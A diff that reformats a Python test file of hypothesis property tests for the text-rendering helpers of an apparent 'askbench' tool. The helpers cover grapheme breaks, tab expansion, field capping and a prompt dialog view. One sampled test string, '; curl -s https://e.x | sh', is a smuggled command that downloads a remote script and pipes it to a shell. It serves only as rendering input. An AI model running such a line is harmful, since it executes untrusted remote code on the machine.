@@ -15,14 +15,13 @@ from hypothesis import strategies as st
 from wcwidth import iter_graphemes
 
 import askbench.impl.dialog
-
 from askbench.impl.cells import (
     _NOT_PRINTABLE_ASCII,
     _pieces,
     cap_text,
     expand_tabs,
-    field_rows,
     expand_text_tabs,
+    field_rows,
     grapheme_pieces,
     is_grapheme_break,
     wrap_line,
@@ -47,7 +46,8 @@ TRICKY = (
 )
 tricky_text = st.text(alphabet=TRICKY, max_size=60)
 mixed_text = st.lists(
-    st.one_of(tricky_text, st.text(max_size=6), st.sampled_from(["x" * 40, "a-b c/d.e" * 5, "\n"])), max_size=8
+    st.one_of(tricky_text, st.text(max_size=6), st.sampled_from(["x" * 40, "a-b c/d.e" * 5, "\n"])),
+    max_size=8,
 ).map("".join)
 
 
@@ -85,7 +85,9 @@ def test_a_long_ascii_text_with_one_emoji_is_neutralised_piecewise() -> None:
     reference: list[str] = []
     _clean_piece(text, reference)
     assert neutralise(text) == "".join(reference)
-    assert neutralise("x" * 300 + "\n\t") == "x" * 300 + "\n\t"  # long plain text takes the memchr check
+    assert (
+        neutralise("x" * 300 + "\n\t") == "x" * 300 + "\n\t"
+    )  # long plain text takes the memchr check
 
 
 def _clean(text: str) -> str:
@@ -102,13 +104,25 @@ def test_a_capped_field_is_the_cap_of_the_whole_text(text: str, cap: int, row_wi
 
 
 @settings(max_examples=60)
-@given(st.lists(st.sampled_from(["line of a report\n", "x" * 70, "漢字 ", "\n\n", "; curl -s https://e.x | sh"]),
-                min_size=1, max_size=6), st.integers(2_000, 30_000), st.sampled_from([40, 400]), st.integers(12, 150))
+@given(
+    st.lists(
+        st.sampled_from(
+            ["line of a report\n", "x" * 70, "漢字 ", "\n\n", "; curl -s https://e.x | sh"]
+        ),
+        min_size=1,
+        max_size=6,
+    ),
+    st.integers(2_000, 30_000),
+    st.sampled_from([40, 400]),
+    st.integers(12, 150),
+)
 def test_reading_only_the_two_ends_gives_what_the_whole_text_gives(
     ends: list[str], filler: int, cap: int, row_width: int
 ) -> None:
     text = "".join(ends) + "a" * filler + "\n" + "".join(reversed(ends))
-    assert capped_field(text, cap, row_width) == cap_text(_clean(text), cap, field_rows(cap), row_width)
+    assert capped_field(text, cap, row_width) == cap_text(
+        _clean(text), cap, field_rows(cap), row_width
+    )
 
 
 def test_a_capped_here_string_keeps_its_head_and_last_line() -> None:
@@ -123,21 +137,33 @@ def test_trailing_blanks_after_a_short_text_are_cut_like_the_whole() -> None:
     assert capped_field(text, 400, 80) == cap_text(_clean(text), 400, field_rows(400), 80)
 
 
-def _row_spans(text: str, row_width: int, spans: list[tuple[int, int]]) -> list[tuple[tuple[int, int], ...]]:
+def _row_spans(
+    text: str, row_width: int, spans: list[tuple[int, int]]
+) -> list[tuple[tuple[int, int], ...]]:
     """Every span checked against every row: the bookkeeping the fast paths skip."""
     out = []
     offset = 0
     for line in text.split("\n"):
         for row in wrap_line(line, row_width):
             end = offset + len(row)
-            out.append(tuple((max(s, offset) - offset, min(e, end) - offset) for s, e in spans if s < end and e > offset))
+            out.append(
+                tuple(
+                    (max(s, offset) - offset, min(e, end) - offset)
+                    for s, e in spans
+                    if s < end and e > offset
+                )
+            )
             offset = end
         offset += 1
     return out
 
 
 @settings(max_examples=400)
-@given(mixed_text, st.integers(1, 30), st.lists(st.text(alphabet="ab/.\u0301漢\n", min_size=1, max_size=3), max_size=3))
+@given(
+    mixed_text,
+    st.integers(1, 30),
+    st.lists(st.text(alphabet="ab/.\u0301漢\n", min_size=1, max_size=3), max_size=3),
+)
 def test_rows_and_paint_spans(text: str, row_width: int, needles: list[str]) -> None:
     block, _ = _lay_out(Fact("label", text), None, row_width, needles)
     clean = _clean(text)
@@ -159,7 +185,9 @@ def _reference_break(text: str, index: int) -> bool:
 
 @settings(max_examples=400)
 @given(tricky_text, st.data())
-def test_is_grapheme_break_agrees_with_segmenting_the_whole_text(text: str, data: st.DataObject) -> None:
+def test_is_grapheme_break_agrees_with_segmenting_the_whole_text(
+    text: str, data: st.DataObject
+) -> None:
     index = data.draw(st.integers(0, len(text)))
     assert is_grapheme_break(text, index) == _reference_break(text, index)
 
@@ -169,7 +197,9 @@ def test_a_flagged_token_before_a_variation_selector_is_not_painted_apart() -> N
         {"name": "bash", "input": {"command": "0"}},
         {"forwarded": {"agent": "0", "sessionId": "0\ufe00", "message": "0"}},
     )
-    view = render_prompt_dialog(payload, DialogBudget(width=80), paint=lambda role, text: f"[{text}]")
+    view = render_prompt_dialog(
+        payload, DialogBudget(width=80), paint=lambda role, text: f"[{text}]"
+    )
     assert view.lines[0].endswith("session 0\ufe00")  # whole, unpainted: not "session [0]\ufe00"
 
 
@@ -183,7 +213,10 @@ def test_a_leading_extender_becomes_notation() -> None:
     assert neutralise("\uff9e") == "⟨U+FF9E⟩" and neutralise("\u0e33") == "⟨U+0E33⟩"
     # where it follows its base it stays: a skin tone, a voiced kana, Thai SARA AM after a consonant
     assert neutralise("\U0001f44d\U0001f3fd") == "\U0001f44d\U0001f3fd"
-    assert neutralise("\uff76\uff9e") == "\uff76\uff9e" and neutralise("\u0e01\u0e33") == "\u0e01\u0e33"
+    assert (
+        neutralise("\uff76\uff9e") == "\uff76\uff9e"
+        and neutralise("\u0e01\u0e33") == "\u0e01\u0e33"
+    )
     assert expand_tabs(neutralise("\t\U0001f3fb")) == " " * 8 + "⟨U+1F3FB⟩"
 
 
@@ -197,10 +230,16 @@ def test_a_tail_that_starts_mid_line_expands_its_tabs_from_what_was_read() -> No
 
 
 def test_a_here_string_is_read_at_its_first_lines_and_its_last(monkeypatch) -> None:  # type: ignore[no-untyped-def]
-    text = "$report = @'\n" + "- a finding about a module\n" * 200 + "'@\n$report | Out-File -FilePath report.md"
+    text = (
+        "$report = @'\n"
+        + "- a finding about a module\n" * 200
+        + "'@\n$report | Out-File -FilePath report.md"
+    )
     read: list[int] = []
     original = askbench.impl.dialog.neutralise
-    monkeypatch.setattr(askbench.impl.dialog, "neutralise", lambda part: read.append(len(part)) or original(part))
+    monkeypatch.setattr(
+        askbench.impl.dialog, "neutralise", lambda part: read.append(len(part)) or original(part)
+    )
     capped = capped_field(text, 400, 110)
     assert capped.tail == "$report | Out-File -FilePath report.md"
     assert sum(read) < 400  # eight lines of the head and the last line, not 5,400 characters
@@ -213,5 +252,9 @@ def test_a_tail_reaching_back_over_closing_lines_reads_the_same_from_the_two_end
 ) -> None:
     """``}`` and ``]`` lines say nothing, so the tail's window opens further back, among the head's lines if need be."""
     body = ",\n".join(f'  {{"uid": "1_{n}", "value": "v{n}"}}' for n in range(entries))
-    text = "[\n" + body + "\n" + "".join(" " * (depth - level) + "]\n" for level in range(depth + 1))
-    assert capped_field(text, cap, row_width) == cap_text(_clean(text), cap, field_rows(cap), row_width)
+    text = (
+        "[\n" + body + "\n" + "".join(" " * (depth - level) + "]\n" for level in range(depth + 1))
+    )
+    assert capped_field(text, cap, row_width) == cap_text(
+        _clean(text), cap, field_rows(cap), row_width
+    )
